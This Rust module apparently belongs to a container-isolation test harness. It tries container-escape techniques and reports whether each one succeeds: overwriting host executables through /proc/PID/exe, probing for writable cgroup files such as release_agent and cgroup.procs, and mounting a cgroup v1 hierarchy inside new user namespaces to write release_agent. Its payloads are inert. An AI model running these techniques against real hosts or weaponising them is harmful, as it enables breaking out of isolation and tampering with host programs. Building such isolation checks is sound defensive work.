//! An attacker: writes, or tries to, what it should only be able to look at.

use crate::Answer;
use crate::deeds::{errno_name, outcome};
use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use std::collections::{HashMap, HashSet};
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

/// Holds open what each process executes whose program has this in its name, and tries to write to it again and again,
/// until `/go` is there and it has tried once more. Says what it holds and what came of it, each once.
pub fn overwrite(name: &str) -> Answer {
    let mut held: HashMap<(u64, u64), File> = HashMap::new();
    let mut said = HashSet::new();
    say(&mut said, "waiting");
    loop {
        let last = Path::new("/go").exists();
        for (program, file) in programs(name) {
            let Ok(data) = file.metadata() else { continue };
            held.entry((data.dev(), data.ino())).or_insert_with(|| {
                say(&mut said, &format!("holding {}", program.display()));
                file
            });
        }
        for file in held.values() {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            // What the mode forbids, its owner may allow first.
            let _ = fs::set_permissions(&path, fs::Permissions::from_mode(0o777));
            let written = OpenOptions::new().write(true).truncate(true).open(&path);
            match written.and_then(|mut file| file.write_all(b"overwritten")) {
                Ok(()) => say(&mut said, "overwritten"),
                Err(error) => say(&mut said, &format!("refused {}", errno_name(&error))),
            }
        }
        if last {
            return Ok(format!("done {}", held.len()));
        }
    }
}

/// What the processes execute whose program has this in its name.
fn programs(name: &str) -> Vec<(PathBuf, File)> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    let programs = entries.filter_map(|entry| {
        let link = entry.path().join("exe");
        let program = fs::read_link(&link).ok()?;
        program.file_name()?.to_str()?.contains(name).then_some(())?;
        Some((program, File::open(link).ok()?))
    });
    programs.collect()
}

/// Tries in each directory below this one to make a directory, and to open for writing what moves processes, shares
/// controllers, or names a program that the host runs. Prints what can be: `make PATH`, `write PATH`.
pub fn cgroups(top: &str) -> Answer {
    let mut answer = String::new();
    let mut next = vec![PathBuf::from(top)];
    while let Some(directory) = next.pop() {
        let made = directory.join("made-by-the-attacker");
        if outcome(fs::create_dir(&made)) == "ok" {
            answer += &format!("make {}\n", directory.display());
            fs::remove_dir(&made)?;
        }
        for file in ["release_agent", "notify_on_release", "cgroup.procs", "tasks", "cgroup.subtree_control"]
        {
            let path = directory.join(file);
            if OpenOptions::new().write(true).open(&path).is_ok() {
                answer += &format!("write {}\n", path.display());
            }
        }
        let below = fs::read_dir(&directory).into_iter().flatten().flatten();
        next.extend(
            below.filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_dir())).map(|entry| entry.path()),
        );
    }
    Ok(answer)
}

/// Mounts a hierarchy of cgroup v1 in new namespaces of its own, and writes to its `release_agent` what is there.
pub fn release_agent(controller: &str, point: &str) -> Answer {
    let flags = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP;
    let mut answer = format!("unshare {}\n", outcome(unshare(flags)));
    // The ids of who has a user namespace of its own, if there is one.
    for (file, text) in [("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")] {
        answer += &format!("{file} {}\n", outcome(fs::write(format!("/proc/self/{file}"), text)));
    }
    let mounted = mount(Some("cgroup"), point, Some("cgroup"), MsFlags::empty(), Some(controller));
    answer += &format!("mount {}\n", outcome(mounted));
    let agent = Path::new(point).join("release_agent");
    let there = fs::read_to_string(&agent).unwrap_or_default();
    let text = if there.is_empty() { "\n" } else { &there };
    match OpenOptions::new().write(true).open(&agent).and_then(|mut file| file.write_all(text.as_bytes())) {
        Ok(()) => answer += "written\n",
        Err(error) => answer += &format!("refused {}\n", errno_name(&error)),
    }
    Ok(answer)
}

fn say(said: &mut HashSet<String>, line: &str) {
    if said.insert(line.to_owned()) {
        let mut out = std::io::stdout();
        let _ = writeln!(out, "{line}").and_then(|()| out.flush());
    }
}
